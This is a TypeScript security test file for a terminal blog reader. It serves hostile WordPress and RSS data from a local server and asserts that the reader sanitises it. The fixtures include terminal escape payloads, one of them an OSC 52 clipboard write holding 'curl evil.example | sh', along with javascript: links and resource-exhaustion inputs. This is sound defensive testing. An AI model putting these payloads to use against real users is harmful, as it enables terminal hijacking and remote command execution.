import assert from 'node:assert/strict';
import {mkdtempSync, rmSync} from 'node:fs';
import type {ServerResponse} from 'node:http';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {after, before, describe, test} from 'node:test';
import {BlogError} from '../../source/errors.js';
import {openBlog} from '../../source/sources/open-blog.js';
import {startTestServer, type TestServer} from '../helpers/http-server.js';
import {runInProcess} from '../script/run-cli.js';
import {findSmuggled} from './hostile-corpus.js';
import {createHttpClient, type HttpClient} from '../../source/http/client.js';
import {userHttpCache} from '../../source/store/cache.js';
import {withEnvironment} from '../helpers/environment.js';

/*
Attacks on the source boundary, each on a blog of its own on 127.0.0.1: escapes in IDs and URLs of
every kind (and `javascript:` links), JSON of the wrong types, totals that are no numbers, lists
without IDs or far too long, a comment page too long to spread, a feed root with too many attributes,
and a blog claiming another's home to get its drafts. Each test says what was sent and what came back.
*/

const home = mkdtempSync(join(tmpdir(), 'blogterm-attack-sources-'));
// Answers are kept in the test's own home, as the reader keeps them in the user's.
let http: HttpClient;
after(() => rmSync(home, {recursive: true, force: true}));

const ESC = '\u001B';
const BEL = '\u0007';
/** Clipboard write and window title: what a link or an ID carried into `jq -r`'s output. */
const clipboard = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`;
const title = `${ESC}]2;pwned${BEL}`;

function json(response: ServerResponse, body: unknown, headers: Record<string, string> = {}): void {
	response.writeHead(200, {'content-type': 'application/json; charset=UTF-8', ...headers});
	response.end(typeof body === 'string' ? body : JSON.stringify(body));
}

const goodPost = (id: number | string, extra: Record<string, unknown> = {}) => ({
	id, date: '2026-03-01T10:00:00', date_gmt: '2026-03-01T10:00:00', slug: `post-${id}`, link: `https://wrong.example/post-${id}/`,
	title: {rendered: `Post ${id}`}, excerpt: {rendered: '<p>An excerpt.</p>'}, content: {rendered: '<p>Body.</p>'}, comment_status: 'open', ...extra,
});

/** Posts of every wrong type, and two that are no posts at all. */
const wrongTypes = [
	goodPost(1),
	goodPost(2, {title: {rendered: ['an', 'array']}, date_gmt: 'garbage', date: 'garbage', _embedded: {author: [{name: 42}], 'wp:term': 'a string'}}),
	goodPost(3, {title: 7, excerpt: 'not an object', _embedded: {author: 'nobody', 'wp:term': [[null, {id: 5, name: 'Kept', taxonomy: 'category'}, {name: 'no id', taxonomy: 'category'}], 'x', null]}}),
	{},
	null,
	goodPost(4, {link: `javascript:alert(1)//${title}`, slug: `slug${title}`}),
	// WordPress's IDs are whole numbers: one that is not (and carries an escape) is no post's.
	goodPost(`s${clipboard}5`),
];

/** Comments of every wrong type. */
const wrongComments = [
	{id: 10, post: 1, parent: `abc${title}`, author_name: 5, author_url: 'javascript:alert(1)', date_gmt: 'garbage', content: 'not an object', status: 7},
	{id: 11, post: 1, parent: 10, author_name: 'Ada', author_url: `https://ada.example/${clipboard}`, date_gmt: '2026-03-02T10:00:00', content: {rendered: '<p>Hi</p>'}},
	{id: `c${clipboard}12`, post: 1, parent: 10, author_name: 'Bea', content: {rendered: '<p>An ID that is no number.</p>'}},
	{author_name: 'No ID'},
	'a string',
];

/** A WordPress blog at `/<name>/`, with what each route answers. */
type Blog = {
	list?: (response: ServerResponse, query: URLSearchParams) => void;
	post?: (response: ServerResponse, id: string) => void;
	comments?: (response: ServerResponse) => void;
	/** What the REST index claims as the blog's home. */
	claimedHome?: string;
};

const blogs: Record<string, Blog> = {
	types: {
		list(response, query) {
			if (query.has('before') || query.has('after')) {
				return json(response, [{id: 21, title: {rendered: `Neighbour${title}`}, link: `https://x.example/n/${clipboard}`}]);
			}
			json(response, wrongTypes, {'x-wp-total': '7', 'x-wp-totalpages': '1'});
		},
		post(response, id) {
			if (id === '7') return json(response, {title: {rendered: 'A post with no ID'}});
			if (id === '8') return json(response, goodPost(8, {date_gmt: 'not a date', date: 'not a date'}));
			json(response, goodPost(Number(id)));
		},
		comments: response => json(response, wrongComments, {'x-wp-total': '4', 'x-wp-totalpages': '1'}),
	},
	'totals-negative': {list: (response) => json(response, [goodPost(1), goodPost(2)], {'x-wp-total': '-5', 'x-wp-totalpages': '-1'})},
	'totals-infinite': {list: (response) => json(response, [goodPost(1), goodPost(2)], {'x-wp-total': '1e309', 'x-wp-totalpages': '1e309'})},
	'totals-words': {list: (response) => json(response, [goodPost(1), goodPost(2)], {'x-wp-total': 'abc', 'x-wp-totalpages': 'abc'})},
	'totals-missing': {list: (response) => json(response, [goodPost(1), goodPost(2)])},
	'too-many': {list: (response) => json(response, Array.from({length: 1500}, (_, index) => ({id: index + 1})), {'x-wp-total': '1500', 'x-wp-totalpages': '1'})},
	'no-ids': {list: (response) => json(response, Array.from({length: 1000}, () => ({})), {'x-wp-total': '1000', 'x-wp-totalpages': '1'})},
	'many-comments': {comments: response => json(response, `[${Array.from({length: 200_000}, (_, index) => `{"id":${index + 1},"post":1}`).join(',')}]`, {'x-wp-total': '200000', 'x-wp-totalpages': '1'})},
	// Claims the home of the blog at /types/: its drafts and read state must stay that blog's.
	claims: {claimedHome: 'types/'},
};

describe('attacks on the source boundary', () => {
	withEnvironment({BLOGTERM_HOME: home});
	before(() => {
		http = createHttpClient({cache: userHttpCache()});
	});

	let server: TestServer;
	before(async () => {
		server = await startTestServer((request, response) => {
			const url = new URL(request.url ?? '/', server.url);
			const [, name = '', ...rest] = url.pathname.split('/');
			const path = `/${rest.join('/')}`;
			if (name.endsWith('.xml')) return feed(name, response);
			const blog = blogs[name];
			if (!blog) {
				response.writeHead(404).end();
				return;
			}
			const root = `${server.url}${name}/wp-json/`;
			if (path === '/') {
				response.writeHead(200, {'content-type': 'text/html', link: `<${root}>; rel="https://api.w.org/"`});
				response.end('<!doctype html><title>x</title>');
				return;
			}
			if (path === '/wp-json/') {
				const claimed = `${server.url}${blog.claimedHome ?? `${name}/`}`;
				return json(response, {name: `Blog ${name}`, description: '', url: claimed, home: claimed, namespaces: ['wp/v2']});
			}
			if (path === '/wp-json/wp/v2/posts') return (blog.list ?? ((answer: ServerResponse) => json(answer, [goodPost(1)], {'x-wp-total': '1', 'x-wp-totalpages': '1'})))(response, url.searchParams);
			const single = /^\/wp-json\/wp\/v2\/posts\/(.+)$/.exec(path);
			if (single) return (blog.post ?? ((answer: ServerResponse, id: string) => json(answer, goodPost(Number(id)))))(response, decodeURIComponent(single[1]!));
			if (path === '/wp-json/wp/v2/comments') return (blog.comments ?? ((answer: ServerResponse) => json(answer, [], {'x-wp-total': '0', 'x-wp-totalpages': '0'})))(response);
			response.writeHead(404, {'content-type': 'application/json'}).end('{"code":"rest_no_route"}');
		});
	});
	after(async () => server.close());

	/** Feeds: escapes in guids and links, a `javascript:` link, a count of -5; one claiming another's home; one with 100,000 attributes. */
	function feed(name: string, response: ServerResponse): void {
		const send = (body: string) => {
			response.writeHead(200, {'content-type': 'application/rss+xml; charset=UTF-8'});
			response.end(body);
		};
		const reference = (text: string) => text.replaceAll(ESC, '&#27;').replaceAll(BEL, '&#7;');
		if (name === 'attributes.xml') {
			const attributes = Array.from({length: 100_000}, (_, index) => ` a${index}="x"`).join('');
			return send(`<?xml version="1.0"?><rss version="2.0"${attributes}><channel><title>t</title><item><title>One</title><guid>1</guid></item></channel></rss>`);
		}
		if (name !== 'feed.xml' && name !== 'claims.xml') {
			response.writeHead(404).end();
			return;
		}
		const link = name === 'claims.xml' ? `${server.url}types/` : `${server.url}feed/`;
		send(`<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:slash="http://purl.org/rss/1.0/modules/slash/" xmlns:wfw="http://wellformedweb.org/CommentAPI/">
<channel><title>Feed</title><link>${link}</link><description>d</description>
<item><title>Script link</title><link>javascript:alert(1)</link><guid isPermaLink="false">${reference(`g${clipboard}1`)}</guid><pubDate>Sun, 01 Mar 2026 10:00:00 +0000</pubDate><slash:comments>-5</slash:comments><wfw:commentRss>javascript:alert(2)</wfw:commentRss></item>
<item><title>Escaped link</title><link>${reference(`https://feed.example/2/?${clipboard}${title}`)}</link><guid isPermaLink="false">${reference(`g${title}2`)}</guid><pubDate>Mon, 02 Mar 2026 10:00:00 +0000</pubDate><slash:comments>1e309</slash:comments></item>
</channel></rss>`);
	}

	const blogUrl = (name: string) => `${server.url}${name}/`;

	/** Every string in `value` (but post and comment bodies, HTML the renderer cleans), with where it is. */
	function strings(value: unknown, path = '$'): Array<[string, string]> {
		if (typeof value === 'string') return [[path, value]];
		if (Array.isArray(value)) return value.flatMap((item, index) => strings(item, `${path}[${index}]`));
		if (value && typeof value === 'object') {
			return Object.entries(value).flatMap(([key, item]) => (key === 'html' ? [] : strings(item, `${path}.${key}`)));
		}
		return [];
	}

	function assertAllClean(value: unknown, where: string): void {
		for (const [path, text] of strings(value)) {
			const found = findSmuggled(text);
			assert.equal(found, undefined, `${where}: ${path} carries ${found?.character} in ${found?.context}`);
		}
	}

	/** Every field that is a link: http or https only (or empty when there is none). */
	function assertLinksSafe(value: unknown, where: string): void {
		for (const [path, text] of strings(value)) {
			if (!/\.(?:link|url|authorUrl)$/.test(path) || text === '') continue;
			assert.match(text, /^https?:\/\/[^\s]+$/, `${where}: ${path} is ${JSON.stringify(text)}`);
		}
	}

	describe('IDs and URLs from the network are clean where they enter the model', () => {
		test('WordPress: IDs that are no numbers are left out; links, comment parents, author URLs and neighbours carry no escapes; a javascript: link is no link', async () => {
			const source = await openBlog(http, blogUrl('types'));
			const page = await source.fetchPostPage(1, 10);
			const post = await source.fetchPost({kind: 'id', id: 1});
			const {comments} = await source.fetchComments(post);
			const neighbours = await source.fetchNeighbours(post);
			const model = {page, post, comments, neighbours};
			assertAllClean(model, 'sent escapes in every ID and URL');
			assertLinksSafe(model, 'sent javascript: links');
			assert.ok(page.posts.every(summary => typeof summary.id === 'number'), 'a string ID is no post\'s');
			assert.equal(page.posts.find(summary => summary.id === 4)?.link, '', 'a javascript: link is no link');
			assert.equal(comments[0]!.authorUrl, undefined, 'a javascript: author URL is dropped');
			assert.match(comments[1]!.authorUrl ?? '', /^https:\/\/ada\.example\/%1B/, 'an escape in a URL is percent-encoded');
			assert.equal(neighbours.previous?.id, 21);
			assert.deepEqual(comments.map(comment => comment.id), [10, 11], 'a comment whose ID is no number is left out');
		});

		test('feeds: guids, links and comment feeds carry no escapes; javascript: links and a count of -5 are dropped', async () => {
			const source = await openBlog(http, `${server.url}feed.xml`);
			const page = await source.fetchPostPage(1, 10);
			assertAllClean(page, 'sent escapes in guids and links');
			assertLinksSafe(page, 'sent javascript: links');
			const script = page.posts.find(post => post.title === 'Script link');
			assert.equal(script?.link, '', 'a javascript: link is no link');
			assert.equal(script?.commentCount, undefined, 'a count of -5 is unknown');
			assert.equal(page.posts.find(post => post.title === 'Escaped link')?.commentCount, undefined, 'a count of 1e309 is unknown');
			assert.deepEqual(await source.fetchComments(await source.fetchPost({kind: 'id', id: script.id})), {comments: []}, 'a javascript: comment feed is not fetched');
		});

		test('JSON output (what `jq -r` prints) carries no escape in id, link, parent, previous.link, next.link', async () => {
			const runs: Array<[string, string[]]> = [
				['WordPress --list', ['--list', '--format', 'json']],
				['WordPress --post 1 --comments', ['--post', '1', '--format', 'json', '--comments']],
			];
			for (const [name, flags] of runs) {
				const run = await runInProcess([blogUrl('types'), ...flags]);
				assert.equal(run.code, 0, `${name}: ${run.stderr}`);
				assertAllClean(JSON.parse(run.stdout), `${name}, decoded`);
			}
			const feedRun = await runInProcess([`${server.url}feed.xml`, '--list', '--format', 'json']);
			assert.equal(feedRun.code, 0, feedRun.stderr);
			assertAllClean(JSON.parse(feedRun.stdout), 'feed --list, decoded');
		});
	});

	describe('JSON of the wrong types: the bad field is dropped or the bad item left out with a note, the rest shown', () => {
		test('a list with a title that is an array, an author that is a number, date_gmt "garbage", wp:term a string or holding null, {} and null', async () => {
			const source = await openBlog(http, blogUrl('types'));
			const page = await source.fetchPostPage(1, 10);
			assert.deepEqual(page.posts.map(post => post.id), [1, 2, 3, 4], 'every post with an ID is shown');
			const [, second, third] = page.posts;
			assert.equal(second!.title, '(no title)');
			assert.equal(second!.date, undefined, 'a date that is not a date is no date');
			assert.equal(second!.author, '');
			assert.deepEqual(third!.categories.map(term => term.name), ['Kept'], 'the one readable term is kept');
			assert.equal(third!.excerpt, '');
			assert.deepEqual(page.notes, [`${new URL(server.url).host} sent 3 posts blogterm cannot read (it has no ID): left out.`]);
		});

		test('one post with a date that is not a date opens without it; one without an ID is refused in words', async () => {
			const source = await openBlog(http, blogUrl('types'));
			const post = await source.fetchPost({kind: 'id', id: 8});
			assert.equal(post.title, 'Post 8');
			assert.equal(post.date, undefined);
			assert.deepEqual(await source.fetchNeighbours(post), {previous: undefined, next: undefined});
			await assert.rejects(source.fetchPost({kind: 'id', id: 7}), (error: unknown) => {
				assert.ok(error instanceof BlogError, String(error));
				assert.equal(error.kind, 'unreadable');
				assert.equal(error.message, `${new URL(server.url).host} sent a post blogterm cannot read: it has no ID.`);
				return true;
			});
		});

		test('comments of the wrong types: the readable ones shown, each bad field dropped', async () => {
			const source = await openBlog(http, blogUrl('types'));
			const {comments} = await source.fetchComments(await source.fetchPost({kind: 'id', id: 1}));
			assert.deepEqual(comments.map(comment => comment.id), [10, 11]);
			assert.equal(comments[0]!.author, 'Anonymous');
			assert.equal(comments[0]!.date, undefined);
			assert.equal(comments[0]!.html, '');
			assert.equal(comments[0]!.parent, 0, 'a parent that is no ID is none');
			assert.equal(comments[1]!.parent, 10);
		});

		test('print mode shows the list, not “something went wrong that blogterm did not expect”', async () => {
			const run = await runInProcess([blogUrl('types'), '--list', '--width', '100']);
			assert.equal(run.code, 0, run.stderr);
			assert.match(run.stdout, /Post 1/);
			assert.doesNotMatch(run.stderr, /did not expect/);
			assert.equal(run.stderr, `blogterm: ${new URL(server.url).host} sent 3 posts blogterm cannot read (it has no ID): left out.\n`, 'the posts left out are said on stderr');
		});
	});

	describe('totals that are no numbers are unknown', () => {
		for (const [name, sent] of [['totals-negative', '-5'], ['totals-infinite', '1e309'], ['totals-words', 'abc'], ['totals-missing', 'nothing']] as const) {
			test(`X-WP-Total ${sent}: “at least” what was seen, never negative, Infinity or NaN`, async () => {
				const source = await openBlog(http, blogUrl(name));
				const page = await source.fetchPostPage(1, 10);
				assert.equal(page.totalIsExact, false, 'the total is not known');
				assert.equal(page.total, 2, 'at least the posts on the page');
				assert.equal(page.totalPages, 1);
				const run = await runInProcess([blogUrl(name), '--list', '--format', 'json']);
				assert.equal(run.code, 0, run.stderr);
				const list = JSON.parse(run.stdout) as {total: unknown; totalPages: unknown; totalIsExact: unknown};
				assert.equal(list.total, 2, `JSON total, for ${sent}`);
				assert.equal(list.totalPages, 1);
				assert.equal(list.totalIsExact, false, 'JSON says the total is “at least”');
				const text = await runInProcess([blogUrl(name), '--list', '--width', '100']);
				assert.match(text.stdout, /^Page 1 of 1\+ · 2\+ posts$/m, 'the list says “at least”');
			});
		}
	});

	describe('lists too long, or of things that are not posts', () => {
		test('1,500 posts in one answer: the first 1,000 are read, with a note', async () => {
			const source = await openBlog(http, blogUrl('too-many'));
			const page = await source.fetchPostPage(1, 10);
			assert.equal(page.posts.length, 1000);
			assert.match(page.notes?.join(' ') ?? '', /sent more posts in one answer than blogterm reads \(1,000\)/);
		});

		test('1,000 empty objects are no posts: an empty page with a note, no “ID undefined”', async () => {
			const source = await openBlog(http, blogUrl('no-ids'));
			const page = await source.fetchPostPage(1, 10);
			assert.deepEqual(page.posts, []);
			assert.match(page.notes?.join(' ') ?? '', /1,000 posts blogterm cannot read \(it has no ID\)/);
		});

		test('200,000 comments in one answer: read without spreading them (no stack overflow), the first 1,000 kept', async () => {
			const source = await openBlog(http, blogUrl('many-comments'));
			const {comments} = await source.fetchComments(await source.fetchPost({kind: 'id', id: 1}));
			assert.equal(comments.length, 1000);
		});
	});

	describe('a feed root with too many attributes', () => {
		test('100,000 attributes on <rss>: refused in words, not parsed', async () => {
			await assert.rejects(openBlog(http, `${server.url}attributes.xml`), (error: unknown) => {
				assert.ok(error instanceof BlogError, String(error));
				assert.match(error.message, /sent a feed blogterm cannot read: an element in it has more than 1,000 attributes\.$/);
				return true;
			});
		});
	});

	describe('a site is known by the URL blogterm fetched, not by the home it claims', () => {
		test('a WordPress blog claiming another blog’s home gets a key of its own (and so none of its drafts or read state)', async () => {
			const victim = await openBlog(http, blogUrl('types'));
			const claimer = await openBlog(http, blogUrl('claims'));
			assert.equal(claimer.site.url, victim.site.url, 'the claim was made');
			assert.notEqual(claimer.site.key, victim.site.key);
			assert.equal(claimer.site.key, `${new URL(server.url).host}/claims`);
		});

		test('a feed whose <link> claims another blog’s home gets a key of its own', async () => {
			const victim = await openBlog(http, blogUrl('types'));
			const claimer = await openBlog(http, `${server.url}claims.xml`);
			assert.equal(claimer.site.url, victim.site.url, 'the claim was made');
			assert.notEqual(claimer.site.key, victim.site.key);
		});
	});
});
